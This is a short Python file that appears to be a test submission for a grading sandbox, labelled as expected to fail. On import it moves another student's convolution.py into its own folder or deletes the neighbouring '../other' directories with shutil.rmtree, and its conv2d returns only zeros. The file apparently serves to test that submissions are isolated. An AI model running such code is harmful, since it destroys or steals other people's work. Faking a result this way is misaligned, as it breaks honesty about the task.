"""Deletes the work of other students, or moves it away.

Expect: wrong
Tier: A only
"""

import os
import shutil

import numpy as np


def zeros(image, kernel):
    return np.zeros([max(0, a - b + 1) for a, b in zip(image.shape, kernel.shape)])

conv2d = zeros
for path in ("../other", "../../other"):
    try:
        os.rename(path + "/convolution.py", "mine.py")
    except OSError:
        shutil.rmtree(path, ignore_errors=True)
